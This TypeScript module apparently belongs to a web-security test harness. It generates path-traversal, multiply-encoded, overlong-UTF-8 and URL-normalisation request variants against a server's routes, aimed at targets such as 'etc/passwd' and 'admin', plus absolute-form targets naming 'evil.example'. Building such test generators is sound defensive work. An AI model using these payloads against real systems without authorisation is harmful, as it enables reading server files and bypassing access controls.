import { type Attack, attacks, type Door, request } from "./attack";

/** A dot, as different readers know it. */
const dots = [".", "%2e", "%2E", "%252e", "%25252e", "%c0%ae", "%c0%2e", "%e0%80%ae", "%f0%80%80%ae", "%u002e", "\\."];

/** What different readers take for the end of a segment. */
const slashes = ["/", "//", "/./", "%2f", "%2F", "%252f", "%25252F", "\\", "%5c", "%255c", "%c0%af", "%c1%9c", ";/"];

/** What visitors have no business with. */
const targets = ["admin", "healthz", "etc/passwd", "api/users"];

/** Dot segments behind and in the middle of a path of the list, every dot and slash in every spelling. */
export function traversals({ method, path }: Door): Attack[] {
  const ways = dots.flatMap((dot) => slashes.map((slash) => `${dot}${dot}${slash}`));
  const climbing = ways.flatMap((way, index) => {
    const target = targets[index % targets.length];
    return [`${path}/${way}${target}`, `${path}/${way.repeat(4)}${target}`, `/${way}${path.slice(1)}`];
  });
  const inside = ways.map((way) => path.replace(/[^/]*$/, `${way}x`));
  const mixed = ["..;/", "..%00/", "..%0d/", "..%3b/", "..%3bx=1/", ".%00./", "..%09/", "..%20/", "...//", "....//"];
  return attacks(
    "traversals",
    [...climbing, ...inside, ...mixed.map((way) => `${path}/${way}admin`), ...mixed.map((way) => `/${way}admin`)].map(
      (target) => request(target, { method }),
    ),
  );
}

/** Every octet, encoded once, twice and in lower case, as the last segment and at the end of one. */
export function encodings({ method, path }: Door): Attack[] {
  const last = path.replace(/[^/]*$/, "");
  const octets = Array.from({ length: 256 }, (_, octet) => octet.toString(16).padStart(2, "0").toUpperCase());
  const spellings = octets.flatMap((hex) => [
    `${last}%${hex}`,
    `${last}a%${hex}b`,
    `${last}a%25${hex}b`,
    `${last}%${hex.toLowerCase()}`,
  ]);
  const broken = ["%", "%2", "%zz", "%%2e", "%2%65", "%u002f", "%uff0e%uff0e", "%x2e", "%25", "%2525", "%25%32%65"];
  const nested = [".", "/", "\\", ";", "\0"].flatMap((char) => nestings(encode(char), 3));
  const raw = Array.from({ length: 256 }, (_, octet) => `${last}a${String.fromCharCode(octet)}b`);
  return attacks(
    "encodings",
    [...spellings, ...broken.map((end) => last + end), ...raw, ...nested.map((one) => `${last}a${one}b`)].map(
      (target) => request(target, { method }),
    ),
  );
}

/** An encoded character encoded again, each of its characters or only some: `%2e`, `%252e`, `%25%32e`, … */
function nestings(text: string, depth: number): string[] {
  if (depth === 0) return [];
  const ways = [0, 1, 2, 3].map((choice) =>
    text.replace(/%(.)(.)/g, (_, high: string, low: string) =>
      ["%25", choice & 1 ? encode(high) : high, choice & 2 ? encode(low) : low].join(""),
    ),
  );
  return [...ways, ...ways.flatMap((way) => nestings(way, depth - 1))];
}

function encode(char: string): string {
  return `%${char.charCodeAt(0).toString(16).padStart(2, "0")}`;
}

/** The same path for a reader who tidies up, another one for a reader who does not. */
export function normalisations({ method, path }: Door): Attack[] {
  const [, first = "", ...rest] = path.split("/");
  const encodedFirst = Array.from(first, (char) => `%${char.charCodeAt(0).toString(16)}`).join("");
  const forms = [
    ...[`/${path}`, `//${path}`, `/.${path}`, `/..${path}`, `/x/..${path}`, `/%2e${path}`, `/;${path}`, `\\${path}`],
    ...[`${path}/`, `${path}//`, `${path}/.`, `${path}/..`, `${path}/x/..`, `${path}/%2e`, `${path};x`, `${path};`],
    ...[`${path}#x`, `${path}%23`, `${path}?#x`, `${path}%3fx`, `${path}%20`, `${path}+`, `${path}.`, `${path}%2e`],
    ...[path.replaceAll("/", "//"), path.replaceAll("/", "/./"), path.replaceAll("/", "\\"), path.replace("/", "/%2f")],
    ...[path.toUpperCase(), `/${encodedFirst}/${rest.join("/")}`, path.slice(1), ` ${path}`, `${path}\t`, `${path} x`],
    ...[`http://shop.example${path}`, `http://evil.example${path}`, `https://shop.example${path}`, `//evil${path}`],
    ...[`http:${path}`, `http:/${path}`, `HTTP://SHOP.EXAMPLE${path}`, `ftp://x${path}`, `shop.example:80${path}`],
    ...[`http://shop.example@evil.example${path}`, "http://shop.example", "http://shop.example?x", "http://", "*"],
    ...[`${path}?x=/../`, `${path}?x=%2e%2e%2f`, `${path}??`, `${path}?`, `${path}?x=${"a".repeat(2000)}`],
    ...[`${path}?"<>|[]{}^\``, `${path}?x=\xff`, `${path}?%`, `${path}?%00`, `${path}?x=1;y=2`, `?${path}`, `#${path}`],
  ];
  return attacks(
    "normalisation",
    forms.map((target) => request(target, { method })),
  );
}
